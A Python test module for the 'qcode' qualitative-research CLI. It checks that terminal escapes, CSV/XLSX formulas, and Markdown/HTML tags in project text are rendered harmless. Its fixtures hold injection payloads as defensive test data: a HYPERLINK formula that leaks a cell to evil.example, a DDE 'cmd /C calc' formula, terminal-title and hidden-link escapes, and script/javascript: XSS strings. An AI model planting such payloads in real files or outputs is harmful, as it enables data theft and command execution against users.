"""Issue #17, items 4-7: a project's text is data, never instructions, wherever it goes.

- to a terminal: no escape sequence, C1 control or bidi override gets through (shown as
  ``␛``, ``␀``, ``�``), and rich never reads markup in it;
- to a spreadsheet: no cell (header included) is a formula, unless ``--raw``;
- to Markdown and HTML: no tag and no link that is not http(s) or relative;
- to a plot: labels are text, and a command's files are written all or none.

Every hostile file is built here, in the test.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qcode import Project
from qcode.format.text import TERMINAL_UNSAFE_RE, printable
from qcode.render.tables import markdown_code, markdown_text, spreadsheet_safe

TITLE = "\x1b]0;PWNED\x1b\\"                                 # sets the terminal's title
CLEAR = "\x1b[2J\x1b[H"                                      # clears the screen
LINK = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"  # a hidden hyperlink
CSI = "\x9b31m"                                              # C1: an 8-bit escape
BIDI = "\u202eevil\u202c"                                    # reorders what is shown
HOSTILE = f"{TITLE}{CLEAR}{LINK} {CSI} {BIDI} bell\x07 nul\x00"
MARKUP = "[/x] [link=http://x]y[/link]"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
HTML = "<script>alert(1)</script> [evil](javascript:alert(1)) <javascript:alert(2)>"
MATH = r"$\frac{$"

# What must never reach a terminal: C0 controls but tab and newline (as bytes), DEL,
# C1 controls and the bidi controls (as UTF-8).
UNSAFE_BYTES = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]"
                          rb"|\xe2\x81[\xa6-\xa9]")


def yaml_quoted(text: str) -> str:
    """A YAML double-quoted scalar: what is not printable written as an escape."""
    def escaped(char: str) -> str:
        code = ord(char)
        if char.isprintable() and char not in '"\\':
            return char
        return (f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000
                else f"\\U{code:08x}")

    return '"' + "".join(escaped(c) for c in text) + '"'


@pytest.fixture
def hostile(project_dir):
    """The fixture project with project text that attacks every output: a transcript
    body, attribute values (front matter and case table), a code's label, a memo."""
    project_dir.replace("qcode.yaml", "name: Fixture study",
                        f"name: {yaml_quoted('Hostile ' + MARKUP + ' ' + TITLE)}")
    project_dir.replace("codebooks/codes.yaml", "label: Staff ownership",
                        f"label: {yaml_quoted(MARKUP + ' ' + CLEAR + ' ' + HTML + ' ' + MATH)}\n"
                        "    rules:\n      - match: hadde")
    project_dir.replace("codebooks/codes.yaml", "label: Personal outcomes",
                        f"label: {yaml_quoted(DDE)}")
    project_dir.replace("transcripts/voss-principal.md", "informant_group: principal",
                        "informant_group: principal\n"
                        f"note: {yaml_quoted(MARKUP + ' ' + TITLE)}\nchange: -3")
    project_dir.replace("transcripts/voss-principal.md", "Rektor: Vi hadde",
                        f"Rektor: {HOSTILE} {HTML} {FORMULA} Vi hadde")
    project_dir.replace("cases/schools.csv", "Voss,372,mature",
                        'Voss,372,"=HYPERLINK(""http://evil.example/?""&A1,""x"")"')
    project_dir.replace("cases/schools.csv", "Lier,450,mature", "Lier,450,@SUM(1+1)")
    project_dir.write("transcripts/formula.md", "---\nschool: Strinda\ninformant_group: "
                      f"teacher\n---\n{DDE} vi hadde\n")
    project = Project.open(project_dir.root)
    project.tag("voss-principal", 2, ["ownership", "personal"], "a", memo=f"memo {HOSTILE}")
    project.tag("voss-principal", 4, ["ownership"], "a")
    project.tag("voss-principal", 2, ["ownership"], "b")
    project.tag("voss-principal", 4, ["lead-weak"], "b")
    return project_dir


def assert_printable(result) -> None:
    for stream, data in (("stdout", result.stdout_bytes), ("stderr", result.stderr_bytes)):
        found = UNSAFE_BYTES.search(data)
        assert found is None, f"{stream} sends {found.group()!r} to the terminal: " \
                              f"{data[max(0, found.start() - 40):found.end() + 40]!r}"


# -- item 4: terminal escapes ---------------------------------------------------------------

_TEXT = st.text(st.one_of(st.sampled_from(list("ab \t\n\x1b\x00\x07\x08\r\x7f\x85\x9b"
                                               "\u202a\u202e\u2066\u2069é😀[]=")),
                          st.characters()), max_size=60)


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_printable_shows_every_control_one_for_one(text):
    shown = printable(text)
    assert TERMINAL_UNSAFE_RE.search(shown) is None
    assert len(shown) == len(text)  # offsets into the text stay valid
    assert printable(shown) == shown
    for original, visible in zip(text, shown, strict=True):
        assert visible == original or TERMINAL_UNSAFE_RE.fullmatch(original)
    assert "\t" not in text or "\t" in shown


def test_printable_uses_the_control_pictures():
    assert printable("a\x1b[2Jb\x00\x07\x7f\x9b\u202e\t\n") == "a␛[2Jb␀␇␡��\t\n"
    plain = "Lærer: «ja» – 😀"
    assert printable(plain) is plain


COMMANDS = {
    "show": (["show", "voss-principal"], True),
    "show --coder": (["show", "voss-principal", "--coder", "a"], True),
    "segments table": (["segments", "-f", "table", "--coder", "a"], True),
    "segments by": (["segments", "-f", "table", "--coder", "a", "--by", "note"], True),
    "query table": (["query", "ownership", "-f", "table", "--coder", "a"], True),
    "transcripts": (["transcripts", "-f", "table"], False),
    "codes tree": (["codes", "-f", "tree"], True),
    "matrix table": (["matrix", "--by", "note", "-f", "table", "--coder", "a"], True),
    "freq table": (["freq", "--by", "note", "-f", "table", "--coder", "a"], False),
    "agree": (["agree", "--coders", "a,b", "-f", "table"], False),
    "disagreements": (["agree", "--coders", "a,b", "--disagreements", "-f", "table"], True),
    "autocode": (["autocode", "--dry-run", "-f", "table"], True),
    "check": (["check"], True),
    "check github": (["check", "-f", "github"], True),
    "show json": (["show", "voss-principal", "-f", "json"], False),
    "segments json": (["segments", "-f", "json", "--coder", "a"], False),
    "search table": (["search", "bell", "--context", "200", "-f", "table"], True),
    "search memos": (["search", "memo", "--memos", "--context", "200", "-f", "table"], True),
    "search json": (["search", "hadde", "--context", "200", "-f", "json"], False),
}


@pytest.mark.parametrize("name", list(COMMANDS))
def test_no_command_sends_the_projects_escapes_to_the_terminal(hostile, cli, name):
    args, shows_escape = COMMANDS[name]
    result = cli(*args)
    assert result.exit_code == 0, result.output
    assert_printable(result)
    if shows_escape:
        assert "␛" in result.stdout  # shown, not dropped


def test_line_mode_dialogues_show_escapes(hostile, cli):
    coding = cli("code", "voss-principal", "--coder", "c", "--plain", input="\n?\nq\n")
    assert coding.exit_code == 0 and "␛]0;PWNED" in coding.stdout
    assert_printable(coding)
    adjudicating = cli("adjudicate", "a", "b", "--plain", input="s\ns\nq\n")
    assert adjudicating.exit_code == 0 and "␛]0;PWNED" in adjudicating.stdout
    assert_printable(adjudicating)
    assert cli("autocode").exit_code == 0
    reviewing = cli("code", "--coder", "c", "--suggestions", "--plain", input="s\nq\n")
    assert reviewing.exit_code == 0 and "␛" in reviewing.stdout
    assert_printable(reviewing)


def test_data_to_a_terminal_is_printable_and_to_a_pipe_exact(hostile, cli, monkeypatch):
    piped = cli("segments", "-f", "csv", "--coder", "a")
    assert "\x1b]0;PWNED" in piped.stdout  # a script gets the text as it is
    monkeypatch.setattr("qcode.cli.output.stdout_is_tty", lambda: True)
    shown = cli("segments", "-f", "csv", "--coder", "a")
    assert_printable(shown)
    assert "␛]0;PWNED" in shown.stdout


def test_json_escapes_c1_and_bidi_controls_and_stays_exact(hostile, cli):
    result = cli("show", "voss-principal", "-f", "json")
    assert "\\u009b" in result.stdout and "\\u202e" in result.stdout
    data = json.loads(result.stdout)
    assert HOSTILE in data["passages"][1]["text"]


def test_diagnostics_on_stderr_are_printable(capsys):
    from qcode.cli.output import error_line

    error_line(f"unknown {TITLE}", f"hint {CSI}")
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x9b" not in err and "␛]0;PWNED" in err


def test_check_warns_about_control_characters_at_their_line(hostile, cli):
    for _ in range(2):  # parsed, then from the cache
        result = cli("check", "-f", "json")
        found = [p for p in json.loads(result.stdout)["problems"]
                 if p["rule"] == "transcript-control-chars"]
        assert [(p["file"], p["line"], p["severity"]) for p in found] == [
            ("transcripts/voss-principal.md", 5, "warning"),   # note: "\e]0;..."
            ("transcripts/voss-principal.md", 10, "warning"),  # Rektor: \e]0;...
        ]
        assert "U+001B" in found[1]["message"] and result.exit_code == 0


def test_a_transcript_id_with_a_control_character_is_an_error(project_dir, cli):
    project_dir.replace("transcripts/voss-principal.md", "id: voss-principal",
                        f"id: {yaml_quoted('voss' + TITLE)}")
    result = cli("check", "-f", "json")
    [problem] = [p for p in json.loads(result.stdout)["problems"]
                 if p["rule"] == "transcript-front-matter"]
    assert "control character (U+001B)" in problem["message"] and result.exit_code == 1


# -- import qdpx: control characters dropped (said), ids checked ------------------------------

U1 = "1a2b3c4d-0000-4000-8000-000000000001"
C1 = "c0000000-0000-4000-8000-000000000001"
S1 = "5e000000-0000-4000-8000-000000000001"


def hostile_qdpx(tmp_path, text: str, start: int, end: int, meta: dict | None = None):
    from test_refi_import import make_zip

    pi = f"<?qcode {json.dumps(meta)}?>\n" if meta else ""
    qde = (f'{pi}<Project xmlns="urn:QDA-XML:project:1.0" name="x"><Users><User guid="{U1}" '
           f'name="u"/></Users><CodeBook><Codes><Code guid="{C1}" name="A" isCodable="true"/>'
           f'</Codes></CodeBook><Sources><TextSource guid="{S1}" name="t" '
           f'plainTextPath="internal://t.txt"><PlainTextSelection guid="{U1[:-1]}2" '
           f'startPosition="{start}" endPosition="{end}" creatingUser="{U1}"><Coding '
           f'guid="{C1[:-1]}2"><CodeRef targetGUID="{C1}"/></Coding></PlainTextSelection>'
           "</TextSource></Sources></Project>")
    return make_zip(tmp_path / "h.qdpx", {"project.qde": qde,
                                          "sources/t.txt": text.encode("utf-8")})


def test_import_qdpx_drops_control_characters_and_keeps_codings_on_their_text(tmp_path, cli):
    text = f"I: Hei {TITLE} der\r\nR: {CSI}Svar\x0bher\n"
    start = text.index("Svar")
    archive = hostile_qdpx(tmp_path, text, start, start + len("Svar\x0bher"))
    result = cli("import", "qdpx", str(archive), "--into", str(tmp_path / "p"))
    assert result.exit_code == 0, result.output
    assert "source 't': dropped 3 control characters" in result.stderr  # ESC, ESC, CSI
    assert_printable(result)
    project = Project.open(tmp_path / "p")
    [transcript] = project.transcripts
    assert transcript.body == "I: Hei ]0;PWNED\\ der\nR: 31mSvar\nher\n"
    [coding] = project.codings("u")
    assert coding.text == "Svar\nher"
    report = project.check()
    assert report.ok and "transcript-control-chars" not in {p.rule for p in report.problems}


def test_import_qdpx_refuses_transcript_ids_with_escapes(tmp_path):
    from qcode.project import import_qdpx

    meta = {"format": 1, "transcripts": {S1: {"id": f"t{TITLE}"}}}
    report = import_qdpx(hostile_qdpx(tmp_path, "I: Hei der\n", 3, 6, meta), tmp_path / "p")
    assert [t.id for t in Project.open(tmp_path / "p").transcripts] == ["t"]
    assert any("is not a valid id" in note for note in report.notes)


# -- item 5: project text is never markup -------------------------------------------------------

@pytest.mark.parametrize("args", [
    ["transcripts", "-f", "table"],
    ["matrix", "--by", "note", "-f", "table", "--coder", "a"],
    ["freq", "--by", "note", "-f", "table", "--coder", "a"],
    ["cooccur", "-f", "table", "--coder", "a"],
    ["segments", "-f", "table", "--coder", "a"],
    ["show", "voss-principal"],
    ["codes", "-f", "tree"],
    ["agree", "--coders", "a,b", "-f", "table"],
])
def test_project_text_is_never_markup(hostile, cli, args):
    result = cli(*args)
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.stdout  # the project's name, in every title
    if args[0] in ("matrix", "freq", "segments", "show", "codes"):
        assert MARKUP in result.stdout


# -- item 6: spreadsheet formulas ---------------------------------------------------------------

_CELL = st.one_of(st.text(st.sampled_from(list("=+-@\t\r0123456789.eE xA'")), max_size=8),
                  st.text(max_size=8), st.integers(), st.floats(allow_nan=False))


@settings(max_examples=300, deadline=None)
@given(_CELL)
def test_a_cell_is_never_a_formula_and_a_number_stays_a_number(value):
    safe = spreadsheet_safe(value)
    if not isinstance(value, str):
        assert safe == value
        return
    assert safe in (value, "'" + value)
    if safe.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(safe)  # only a plain number may start so
    if safe != value:
        assert value.startswith(("=", "+", "-", "@", "\t", "\r"))


def starts_like_a_formula(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


CSV_COMMANDS = [
    ["matrix", "--by", "model", "-f", "csv", "--coder", "a"],
    ["matrix", "--by", "model", "-f", "tsv", "--coder", "a"],
    ["freq", "--by", "model", "-f", "csv", "--coder", "a"],
    ["segments", "-f", "csv", "--coder", "a"],
    ["query", "ownership", "-f", "csv", "--coder", "a"],
    ["codes", "-f", "csv"],
    ["transcripts", "-f", "csv"],
    ["agree", "--coders", "a,b", "--disagreements", "-f", "csv"],
    ["autocode", "--dry-run", "-f", "csv"],
    ["search", "hadde", "-f", "csv", "--context", "200"],
]


def cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


@pytest.mark.parametrize("args", CSV_COMMANDS, ids=lambda a: " ".join(a[:2] + a[3:4]))
def test_csv_of_every_command_holds_no_formula_unless_raw(hostile, cli, args):
    delimiter = "\t" if "tsv" in args else ","
    safe = cli(*args)
    assert safe.exit_code == 0, safe.output
    found = cells(safe.stdout, delimiter)
    assert not [c for c in found if starts_like_a_formula(c)]
    assert any(c.startswith(("'=", "'@")) for c in found)
    raw = cli(*args, "--raw")
    assert any(starts_like_a_formula(c) for c in cells(raw.stdout, delimiter))
    assert len(cells(raw.stdout, delimiter)) == len(found)


def test_numbers_stay_numbers_in_csv(hostile, cli):
    rows = list(csv.DictReader(io.StringIO(cli("segments", "-f", "csv", "--coder", "a").stdout)))
    assert {row["change"] for row in rows} == {"-3"}


@pytest.mark.parametrize("args", [
    ["matrix", "--by", "model", "--coder", "a"],
    ["segments", "--coder", "a"],
    ["cooccur", "--coder", "a"],
])
def test_xlsx_has_no_formula_in_any_cell_header_included(hostile, cli, tmp_path, args):
    from openpyxl import load_workbook

    path = tmp_path / "out.xlsx"
    result = cli(*args, "-o", str(path))
    assert result.exit_code == 0, result.output
    book = load_workbook(path)
    every = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert every and not [c.coordinate for c in every if c.data_type == "f"]
    texts = [c.value for c in every if isinstance(c.value, str)]
    assert not [t for t in texts if starts_like_a_formula(t)]
    assert not [t for t in texts if TERMINAL_UNSAFE_RE.search(t)]
    if args[0] != "cooccur":
        header = [c.value for c in book.worksheets[0][1]]
        assert (f"'{FORMULA}" in header) == (args[0] == "matrix")
        numbers = [c.value for c in every if c.data_type == "n" and c.value is not None]
        assert numbers


# -- item 7: Markdown, HTML and plots ----------------------------------------------------------

def rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


def assert_harmless_html(page: str) -> None:
    assert "<script" not in page.lower()
    for href in re.findall(r'(?:href|src)="([^"]*)"', page):
        assert re.match(r"(https?://|[^:]*$)", href), href


@pytest.mark.parametrize("args", [
    ["segments", "-f", "md", "--coder", "a"],
    ["segments", "-f", "md", "--coder", "a", "--by", "note"],
    ["query", "ownership", "-f", "md", "--coder", "a"],
    ["matrix", "--by", "note", "-f", "md", "--coder", "a"],
    ["freq", "-f", "md", "--coder", "a"],
    ["agree", "--coders", "a,b", "-f", "md"],
    ["agree", "--coders", "a,b", "--disagreements", "-f", "md"],
    ["search", "hadde", "-f", "md", "--context", "200"],
])
def test_markdown_output_makes_no_tag_and_no_foreign_link(hostile, cli, args):
    result = cli(*args)
    assert result.exit_code == 0, result.output
    page = rendered(result.stdout)
    assert_harmless_html(page)
    if args[0] != "freq":  # the others show the label, or the quote
        assert "&lt;script&gt;" in page


@pytest.mark.parametrize("args", [
    ["segments", "-f", "html", "--coder", "a", "--by", "note"],
    ["matrix", "--by", "note", "-f", "html", "--coder", "a"],
])
def test_html_output_escapes_titles_labels_and_values(hostile, cli, args):
    result = cli(*args)
    assert result.exit_code == 0
    assert_harmless_html(result.stdout)
    assert "&lt;script&gt;" in result.stdout or args[0] == "matrix"


@settings(max_examples=300, deadline=None)
@given(st.text(st.one_of(st.sampled_from(list("<>&[]()\\`!*_:/ jsavcript\n")), st.characters()),
               max_size=40))
def test_markdown_text_is_only_text(text):
    page = rendered(markdown_text(text))
    assert "<a " not in page and "<img" not in page
    assert not re.search(r"<(?!/?(p|br|em|strong|code|h[1-6]|hr|ul|ol|li|blockquote|pre)\b)",
                         page)
    code = rendered(markdown_code(text.replace("\n", " ")))
    assert "<a " not in code and "<script" not in code


def test_plot_labels_are_drawn_as_text(hostile, cli, tmp_path):
    result = cli("matrix", "--by", "school", "--coder", "a", "-o", str(tmp_path / "m.csv"),
                 "--plot", str(tmp_path / "m.svg"))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "m.csv").exists()
    assert "frac" in (tmp_path / "m.svg").read_text("utf-8")


@pytest.mark.parametrize("command", ["matrix", "cooccur"])
def test_a_plot_that_fails_leaves_no_output_behind(hostile, cli, tmp_path, monkeypatch,
                                                   command):
    def broken(*args, **kwargs):
        raise RuntimeError("the plot cannot be drawn")

    monkeypatch.setattr("qcode.render.tables.heatmap_bytes", broken)
    out = tmp_path / "out"
    out.mkdir()
    extra = ["--by", "school"] if command == "matrix" else []
    result = cli(command, *extra, "--coder", "a", "-o", str(out / "m.xlsx"),
                 "--plot", str(out / "m.png"))
    assert result.exit_code == 70
    assert list(out.iterdir()) == []


def test_a_refused_plot_file_is_refused_before_anything_is_written(hostile, cli, tmp_path):
    (tmp_path / "m.png").write_bytes(b"mine")
    result = cli("matrix", "--by", "school", "--coder", "a", "-o", str(tmp_path / "m.csv"),
                 "--plot", str(tmp_path / "m.png"))
    assert result.exit_code == 1 and "already exists" in result.stderr
    assert not (tmp_path / "m.csv").exists() and (tmp_path / "m.png").read_bytes() == b"mine"


def test_files_written_together_are_all_or_none(tmp_path, monkeypatch):
    from qcode.errors import QcodeError
    from qcode.format.files import atomic_write_all

    (tmp_path / "blocker").write_text("a file where a folder should be")
    with pytest.raises(QcodeError):
        atomic_write_all([(tmp_path / "first.csv", "a,b\n"),
                          (tmp_path / "blocker" / "second.png", b"png")])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker"]

    synced = []

    def full(fd):  # the disk fills up after the first file
        synced.append(fd)
        if len(synced) > 1:
            raise OSError(errno.ENOSPC, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("qcode.format.files.os.fsync", full)
        with pytest.raises(QcodeError, match="cannot write"):
            atomic_write_all([(tmp_path / "first.csv", "a,b\n"),
                              (tmp_path / "second.png", b"png")])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker"]
    atomic_write_all([(tmp_path / "first.csv", "a,b\n"), (tmp_path / "second.png", b"png")])
    assert (tmp_path / "first.csv").read_text() == "a,b\n"


# -- every output at once, for text an attacker chooses ------------------------------------------

_ATTACK = st.lists(st.one_of(
    st.sampled_from(["\x1b", "]0;", "[2J", "\x9b", "\u202e", "\x07", "\x00", "[/x]", "[b]",
                     "[link=http://x]", "=", "+", "-", "@", "\t", "<script>", "](javascript:",
                     "$", "\\", "`", ":", "|", " ", "a"]),
    st.characters(blacklist_categories=("Cs",))), min_size=1, max_size=12).map("".join)


@settings(max_examples=12, deadline=None)
@given(label=_ATTACK, value=_ATTACK)
def test_hostile_labels_and_values_reach_no_terminal_spreadsheet_or_page(
        tmp_path_factory, label, value):
    import os

    from typer.testing import CliRunner

    from conftest import CODEBOOK, CONFIG, SCHOOLS, TRANSCRIPTS, ProjectBuilder
    from qcode.cli.app import app

    builder = ProjectBuilder(tmp_path_factory.mktemp("fuzz") / "study")
    for rel, text in (("qcode.yaml", CONFIG), ("codebooks/codes.yaml", CODEBOOK),
                      ("cases/schools.csv", SCHOOLS),
                      *((f"transcripts/{name}", text) for name, text in TRANSCRIPTS.items())):
        builder.write(rel, text)
    builder.replace("codebooks/codes.yaml", "label: Staff ownership",
                    f"label: {yaml_quoted(label)}")
    builder.replace("transcripts/voss-principal.md", "informant_group: principal",
                    f"informant_group: principal\nnote: {yaml_quoted(value)}")
    Project.open(builder.root).tag("voss-principal", 2, ["ownership"], "a")
    runner = CliRunner()
    old = os.getcwd()
    os.chdir(builder.root)
    try:
        for args in (["show", "voss-principal"], ["codes", "-f", "tree"],
                     ["matrix", "--by", "note", "-f", "table"],
                     ["segments", "-f", "table", "--by", "note"]):
            result = runner.invoke(app, args, catch_exceptions=False)
            assert result.exit_code == 0, (args, result.output)
            assert_printable(result)
        for args in (["matrix", "--by", "note", "-f", "csv"], ["codes", "-f", "csv"],
                     ["segments", "-f", "csv"]):
            result = runner.invoke(app, args, catch_exceptions=False)
            assert not [c for c in cells(result.stdout, ",") if starts_like_a_formula(c)]
        page = rendered(runner.invoke(app, ["segments", "-f", "md", "--by", "note"]).stdout)
        assert_harmless_html(page)
    finally:
        os.chdir(old)


def test_a_cell_holding_a_lone_carriage_return_stays_one_cell():
    """Python's csv quotes a cell with "\\n" (our line end) but not one with a lone "\\r",
    which CSV readers take for a line break: the row is quoted whole."""
    import csv
    import io

    from qcode.render.tables import delimited

    for raw in (False, True):
        text = delimited(["a", "b\rc"], [["x", "\r"], [1, 2]], raw=raw)
        rows = list(csv.reader(io.StringIO(text)))
        assert [len(row) for row in rows] == [2, 2, 2]
        assert rows[2] == ["1", "2"]
